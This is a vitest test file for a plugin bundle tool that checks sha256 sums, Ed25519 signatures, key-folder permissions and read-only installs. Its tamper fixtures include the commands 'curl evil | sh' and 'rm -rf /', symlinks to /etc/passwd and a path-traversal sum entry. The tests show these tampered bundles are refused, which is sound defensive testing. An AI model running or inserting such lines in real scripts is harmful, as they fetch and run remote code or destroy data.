import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { appendFile, chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, unlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { install, keygen, pack, sign, SIG_FILE, SUM_FILE, uninstall, verify, writeKeyPair } from "./bundle.js";
import type { KeyPair, VerifyOptions } from "./bundle.js";

const MANIFEST = `# yaml-language-server: $schema=../flexcore-plugin.schema.json
name: echo
version: 1.0.0
protocols: [1]
flexcore: ">=0.1.0"
command: [./bin/echo, --fast]
capabilities:
  steps:
    - name: echo
`;

let work: string;
let operator: KeyPair;
let stranger: KeyPair;
let trusted: string;

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), "flexcore-bundle-"));
  operator = keygen();
  stranger = keygen();
  trusted = join(work, "trusted");
  await mkdir(trusted, { mode: 0o755 });
  await writeFile(join(trusted, "operator.pub"), operator.publicKeyPem, { mode: 0o644 });
});
afterAll(async () => {
  if (!work) return;
  // installed folders are read-only: open them up before removing
  execFileSync("chmod", ["-R", "u+w", work]);
  await rm(work, { recursive: true, force: true });
});

let n = 0;
/** A packed and (by default) signed bundle in a fresh folder. */
async function bundle(opts: { sign?: KeyPair | false; manifest?: string } = {}): Promise<string> {
  const dir = join(work, `b${++n}`);
  await mkdir(join(dir, "bin"), { recursive: true });
  await mkdir(join(dir, "lib", "deep"), { recursive: true });
  await writeFile(join(dir, "flexcore-plugin.yaml"), opts.manifest ?? MANIFEST);
  await writeFile(join(dir, "bin", "echo"), "#!/bin/sh\necho hello\n");
  await writeFile(join(dir, "lib", "deep", "data.json"), JSON.stringify({ n }));
  await writeFile(join(dir, "README.md"), "echo plugin\n");
  await pack(dir);
  if (opts.sign !== false) await sign(dir, (opts.sign ?? operator).privateKeyPem);
  return dir;
}

const trust: VerifyOptions = { get trustedKeysDir() { return trusted; } } as VerifyOptions;

async function refused(dir: string, code: string, options: VerifyOptions = trust): Promise<Error & { code: string; file?: string; reason?: string }> {
  const store = join(work, `store-${++n}`);
  const err = await install(dir, store, options).then(() => undefined, (e: unknown) => e as Error & { code: string });
  expect(err, "install must be refused").toBeDefined();
  expect(err!.code, err!.message).toBe(code);
  // nothing installed, not even a temporary folder
  expect(existsSync(store) ? await readdir(store) : []).toEqual([]);
  return err!;
}

function sha256(b: Buffer | string): string {
  return createHash("sha256").update(b).digest("hex");
}

describe("pack", () => {
  it("lists every file but the sum and signature, sorted, in sha256sum's format", async () => {
    const dir = await bundle();
    const sum = await readFile(join(dir, SUM_FILE), "utf8");
    const paths = sum.trimEnd().split("\n").map((l) => l.slice(66));
    expect(paths).toEqual(["README.md", "bin/echo", "flexcore-plugin.yaml", "lib/deep/data.json"]);
    expect(sum).toContain(`${sha256(await readFile(join(dir, "bin", "echo")))}  bin/echo\n`);
    // any operator can check it with coreutils
    expect(execFileSync("sha256sum", ["--strict", "-c", SUM_FILE], { cwd: dir, encoding: "utf8" })).toContain("bin/echo: OK");
  });

  it("refuses links, a bad manifest, a missing program, and drops a signature of another sum", async () => {
    const dir = await bundle();
    await symlink("/etc/passwd", join(dir, "passwd"));
    await expect(pack(dir)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM", file: "passwd" });
    await unlink(join(dir, "passwd"));
    await writeFile(join(dir, "flexcore-plugin.yaml"), `${MANIFEST}colour: blue\n`);
    await expect(pack(dir)).rejects.toMatchObject({ code: "FLEX_PLUGIN_MANIFEST", path: "colour" });
    await writeFile(join(dir, "flexcore-plugin.yaml"), MANIFEST.replace("./bin/echo", "./bin/missing"));
    await expect(pack(dir)).rejects.toMatchObject({ code: "FLEX_PLUGIN_MANIFEST", path: "command[0]" });
    await writeFile(join(dir, "flexcore-plugin.yaml"), MANIFEST);
    expect((await pack(dir)).removedSignature).toBe(false); // same sum: the signature still holds
    await writeFile(join(dir, "NEW"), "x");
    expect((await pack(dir)).removedSignature).toBe(true);
    expect(existsSync(join(dir, SIG_FILE))).toBe(false);
  });

  it("packs a bundle meant for another FlexCore (compatibility is the installing host's question)", async () => {
    const dir = await bundle({ manifest: MANIFEST.replace(">=0.1.0", "^9.0.0") });
    await expect(verify(dir, trust)).rejects.toMatchObject({ code: "FLEX_PLUGIN_INCOMPATIBLE", field: "flexcore" });
    await refused(dir, "FLEX_PLUGIN_INCOMPATIBLE");
  });
});

describe("verify and install refuse a tampered bundle, installing nothing", () => {
  it("accepts the untouched bundle, signed by a trusted key", async () => {
    const v = await verify(await bundle(), trust);
    expect(v.signer).toBe(operator.keyId);
    expect(v.manifest.name).toBe("echo");
  });

  it("a flipped byte", async () => {
    const dir = await bundle();
    const f = join(dir, "lib", "deep", "data.json");
    const b = await readFile(f);
    b[0] = b[0]! ^ 1;
    await writeFile(f, b);
    expect(await refused(dir, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: "lib/deep/data.json" });
  });

  it("an extra file, at the root or deep", async () => {
    const dir = await bundle();
    await writeFile(join(dir, "lib", "deep", "evil.so"), "x");
    expect(await refused(dir, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: "lib/deep/evil.so" });
    await unlink(join(dir, "lib", "deep", "evil.so"));
    await writeFile(join(dir, ".hidden"), "");
    expect(await refused(dir, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: ".hidden" });
  });

  it("a missing file, and a missing sum file", async () => {
    const dir = await bundle();
    await unlink(join(dir, "README.md"));
    expect(await refused(dir, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: "README.md" });
    await unlink(join(dir, SUM_FILE));
    expect(await refused(dir, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: SUM_FILE });
  });

  it("a symlink anywhere: to a file outside, to a folder outside, a listed file replaced by a link, the bundle folder itself", async () => {
    const outside = join(work, "outside");
    await mkdir(outside, { recursive: true });
    await writeFile(join(outside, "secret"), "secret");
    const a = await bundle();
    await symlink(join(outside, "secret"), join(a, "lib", "secret"));
    expect(await refused(a, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: "lib/secret" });
    const b = await bundle();
    await symlink(outside, join(b, "lib", "out"));
    expect(await refused(b, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: "lib/out" });
    const c = await bundle();
    // same bytes behind a link: still refused, a link may point elsewhere tomorrow
    await writeFile(join(outside, "readme"), await readFile(join(c, "README.md")));
    await unlink(join(c, "README.md"));
    await symlink(join(outside, "readme"), join(c, "README.md"));
    expect(await refused(c, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: "README.md" });
    const d = await bundle();
    const link = join(work, `link-${n}`);
    await symlink(d, link);
    await refused(link, "FLEX_PLUGIN_CHECKSUM");
  });

  it("a sum file naming a path out of the bundle, even when signed by the trusted key", async () => {
    const dir = await bundle();
    const sum = await readFile(join(dir, SUM_FILE), "utf8");
    const escaping = `${sha256("root:x:0:0")}  ../../../etc/passwd\n${sum}`;
    await writeFile(join(dir, SUM_FILE), escaping);
    await sign(dir, operator.privateKeyPem).catch(() => undefined); // sign refuses it too
    const err = await refused(dir, "FLEX_PLUGIN_CHECKSUM");
    expect(err.file).toBe(SUM_FILE);
    expect(err.message).toContain("leaves the bundle");
    for (const line of [`${sha256("")}  /etc/passwd`, `${sha256("")}  lib/./x`, `${sha256("")}  lib//x`, `${sha256("")}  ${SIG_FILE}`]) {
      await writeFile(join(dir, SUM_FILE), `${line}\n${sum}`);
      await refused(dir, "FLEX_PLUGIN_CHECKSUM");
    }
    await writeFile(join(dir, SUM_FILE), sum.split("\n").reverse().join("\n").trimStart() + "\n");
    expect((await refused(dir, "FLEX_PLUGIN_CHECKSUM")).message).toContain("out of order");
  });

  it("a pipe or other special file", async () => {
    const dir = await bundle();
    execFileSync("mkfifo", [join(dir, "lib", "fifo")]);
    expect(await refused(dir, "FLEX_PLUGIN_CHECKSUM")).toMatchObject({ file: "lib/fifo" });
  });

  it("a bundle past its file count or byte limits", async () => {
    const dir = await bundle();
    await expect(verify(dir, { ...trust, limits: { maxFiles: 5 } })).rejects.toMatchObject({ code: "FLEX_PLUGIN_TOO_LARGE", limit: "maxFiles" });
    await expect(verify(dir, { ...trust, limits: { maxBytes: 100 } })).rejects.toMatchObject({ code: "FLEX_PLUGIN_TOO_LARGE", limit: "maxBytes" });
    await refused(dir, "FLEX_PLUGIN_TOO_LARGE", { ...trust, limits: { maxBytes: 100 } });
    expect((await verify(dir, trust)).manifest.name).toBe("echo");
  });
});

describe("signatures", () => {
  it("refuses a missing signature unless the plugin is allowed unsigned by name", async () => {
    const dir = await bundle({ sign: false });
    const err = await refused(dir, "FLEX_PLUGIN_SIGNATURE");
    expect(err.message).toContain("missing");
    await refused(dir, "FLEX_PLUGIN_SIGNATURE", { ...trust, allowUnsigned: ["other", "echo-2"] });
    const v = await verify(dir, { ...trust, allowUnsigned: ["echo"] });
    expect(v.signer).toBeUndefined();
    expect(v.unsignedReason).toContain("missing");
  });

  it("refuses an unsigned bundle before reading its manifest when nothing may load unsigned", async () => {
    const dir = await bundle({ sign: false });
    await writeFile(join(dir, "flexcore-plugin.yaml"), `${MANIFEST}colour: blue\n`);
    await pack(dir).catch(() => undefined);
    // rewrite the sum by hand, as an attacker would, so only the manifest is wrong
    execFileSync("sh", ["-c", `sha256sum README.md bin/echo flexcore-plugin.yaml lib/deep/data.json | LC_ALL=C sort -k2 > ${SUM_FILE}`], { cwd: dir });
    await refused(dir, "FLEX_PLUGIN_SIGNATURE");
    await refused(dir, "FLEX_PLUGIN_MANIFEST", { ...trust, allowUnsigned: ["echo"] });
  });

  it("refuses a signature by a key that is not trusted, and one with no trusted keys folder", async () => {
    const dir = await bundle({ sign: stranger });
    expect((await refused(dir, "FLEX_PLUGIN_SIGNATURE")).message).toContain(stranger.keyId);
    await refused(dir, "FLEX_PLUGIN_SIGNATURE", {});
  });

  it("refuses a bad signature: a flipped bit, a signature of another bundle, a file changed and repacked after signing", async () => {
    const a = await bundle();
    const sig = JSON.parse(await readFile(join(a, SIG_FILE), "utf8")) as { sig: string };
    const raw = Buffer.from(sig.sig, "base64");
    raw[3] = raw[3]! ^ 0x10;
    await writeFile(join(a, SIG_FILE), JSON.stringify({ ...sig, sig: raw.toString("base64") }));
    expect((await refused(a, "FLEX_PLUGIN_SIGNATURE")).message).toContain("does not verify");
    const b = await bundle();
    const other = await bundle();
    await writeFile(join(b, SIG_FILE), await readFile(join(other, SIG_FILE)));
    await refused(b, "FLEX_PLUGIN_SIGNATURE");
    const c = await bundle();
    await appendFile(join(c, "bin", "echo"), "curl evil | sh\n");
    await pack(c); // the attacker rewrites the sums: they match, the signature cannot
    await refused(c, "FLEX_PLUGIN_SIGNATURE");
    await writeFile(join(c, SIG_FILE), "{not json");
    await refused(c, "FLEX_PLUGIN_SIGNATURE");
  });

  it("refuses every bundle when the trusted keys folder or a key in it is writable by others", async () => {
    const dir = await bundle();
    const loose = join(work, "loose-keys");
    await mkdir(loose);
    await chmod(loose, 0o777);
    await writeFile(join(loose, "operator.pub"), operator.publicKeyPem);
    expect((await refused(dir, "FLEX_PLUGIN_SIGNATURE", { trustedKeysDir: loose, allowUnsigned: ["echo"] })).message).toContain("writable");
    await chmod(loose, 0o755);
    await chmod(join(loose, "operator.pub"), 0o666);
    await refused(dir, "FLEX_PLUGIN_SIGNATURE", { trustedKeysDir: loose });
    await chmod(join(loose, "operator.pub"), 0o644);
    expect((await verify(dir, { trustedKeysDir: loose })).signer).toBe(operator.keyId);
  });

  it("sign refuses a stale sum file and a key that is not Ed25519", async () => {
    const dir = await bundle();
    await writeFile(join(dir, "README.md"), "changed\n");
    await expect(sign(dir, operator.privateKeyPem)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM", file: "README.md" });
    const { generateKeyPairSync } = await import("node:crypto");
    const rsa = generateKeyPairSync("rsa", { modulusLength: 1024 }).privateKey.export({ type: "pkcs8", format: "pem" }).toString();
    await pack(dir);
    await expect(sign(dir, rsa)).rejects.toMatchObject({ code: "FLEX_INVALID_OPTION" });
  });

  it("writes the private key 0600 and never over an existing file", async () => {
    const dir = join(work, "keys");
    const pair = keygen();
    const { privateKeyFile, publicKeyFile } = await writeKeyPair(pair, dir, "ops");
    expect((await stat(privateKeyFile)).mode & 0o777).toBe(0o600);
    expect((await stat(publicKeyFile)).mode & 0o777).toBe(0o644);
    await expect(writeKeyPair(keygen(), dir, "ops")).rejects.toMatchObject({ code: "FLEX_INVALID_OPTION" });
    expect(await readFile(privateKeyFile, "utf8")).toBe(pair.privateKeyPem);
  });
});

describe("install", () => {
  it("copies the verified bytes into <store>/<sha256 of the sum file>, read-only; later changes to the source change nothing; installing again is a no-op", async () => {
    const dir = await bundle();
    const store = join(work, "store");
    const first = await install(dir, store, trust);
    const digest = sha256(await readFile(join(dir, SUM_FILE)));
    expect(first).toMatchObject({ path: join(store, digest), digest, installed: true, signer: operator.keyId });
    expect(await readdir(store)).toEqual([digest]);
    const mode = async (p: string) => (await stat(join(first.path, p))).mode & 0o777;
    expect(await mode("")).toBe(0o555);
    expect(await mode("lib/deep")).toBe(0o555);
    expect(await mode("README.md")).toBe(0o444);
    expect(await mode(SUM_FILE)).toBe(0o444);
    expect(await mode(SIG_FILE)).toBe(0o444);
    expect(await mode("bin/echo")).toBe(0o555); // the program command[0] names, and only it
    // the installed copy verifies on its own
    expect((await verify(first.path, trust)).digest).toBe(digest);

    const original = await readFile(join(dir, "bin", "echo"), "utf8");
    await writeFile(join(dir, "bin", "echo"), "#!/bin/sh\nrm -rf /\n");
    expect(await readFile(join(first.path, "bin", "echo"), "utf8")).toBe(original);
    await refused(dir, "FLEX_PLUGIN_CHECKSUM");
    await writeFile(join(dir, "bin", "echo"), original);

    const again = await install(dir, store, trust);
    expect(again).toMatchObject({ path: first.path, installed: false });
    expect(await readdir(store)).toEqual([digest]);

    // another version gets its own folder; the first stays as it was
    await writeFile(join(dir, "README.md"), "v2\n");
    await pack(dir);
    await sign(dir, operator.privateKeyPem);
    const second = await install(dir, store, trust);
    expect(second.path).not.toBe(first.path);
    expect((await readdir(store)).sort()).toEqual([digest, second.digest].sort());
    await uninstall(store, second.digest);
    expect(await readdir(store)).toEqual([digest]);
  });

  it("under a writer racing the install, whatever is installed is exactly what was signed (the bytes hashed are the bytes written)", async () => {
    const dir = await bundle();
    const store = join(work, "store-race");
    const file = join(dir, "lib", "deep", "data.json");
    const good = await readFile(file);
    const evil = Buffer.from(JSON.stringify({ evil: true, pad: "x".repeat(good.length) }));
    let racing = true;
    const writer = (async () => {
      for (let i = 0; racing; i++) await writeFile(file, i % 2 ? good : evil);
    })();
    let installed = 0;
    let refusedCount = 0;
    try {
      for (let i = 0; i < 40; i++) {
        const r = await install(dir, store, trust).then((x) => x, (e: { code: string }) => e);
        if ("path" in r) {
          installed++;
          expect(await readFile(join(r.path, "lib", "deep", "data.json"))).toEqual(good);
          await uninstall(store, r.digest);
        } else {
          expect(r.code).toBe("FLEX_PLUGIN_CHECKSUM");
          refusedCount++;
        }
      }
    } finally {
      racing = false;
      await writer;
    }
    expect(installed + refusedCount).toBe(40);
    expect(refusedCount).toBeGreaterThan(0);
  });

  it("refuses a store folder of that name planted or changed by someone else, and a store others may write", async () => {
    const dir = await bundle();
    const store = join(work, "store-squatted");
    const digest = sha256(await readFile(join(dir, SUM_FILE)));
    // planted: the right sum and signature files, other code, read-only like a real install
    const planted = join(store, digest);
    await mkdir(join(planted, "bin"), { recursive: true });
    for (const f of [SUM_FILE, SIG_FILE, "flexcore-plugin.yaml", "README.md"]) await writeFile(join(planted, f), await readFile(join(dir, f)));
    await mkdir(join(planted, "lib", "deep"), { recursive: true });
    await writeFile(join(planted, "lib", "deep", "data.json"), await readFile(join(dir, "lib", "deep", "data.json")));
    await writeFile(join(planted, "bin", "echo"), "#!/bin/sh\ncurl evil | sh\n");
    execFileSync("chmod", ["-R", "a-w", planted]);
    await expect(install(dir, store, trust)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM", bundle: planted });
    execFileSync("chmod", ["-R", "u+w", planted]);
    await expect(install(dir, store, trust)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM", bundle: planted }); // writable: refused before reading
    await uninstall(store, digest);

    // a real install changed afterwards (by someone with the rights) is not taken as installed
    const real = await install(dir, store, trust);
    execFileSync("chmod", ["-R", "u+w", real.path]);
    await writeFile(join(real.path, "README.md"), "changed\n");
    execFileSync("chmod", ["-R", "a-w", real.path]);
    await expect(install(dir, store, trust)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM" });

    const open = join(work, "store-open");
    await mkdir(open, { mode: 0o777 });
    await chmod(open, 0o777);
    await expect(install(dir, open, trust)).rejects.toMatchObject({ code: "FLEX_INVALID_OPTION" });
    expect(await readdir(open)).toEqual([]);
  });
});
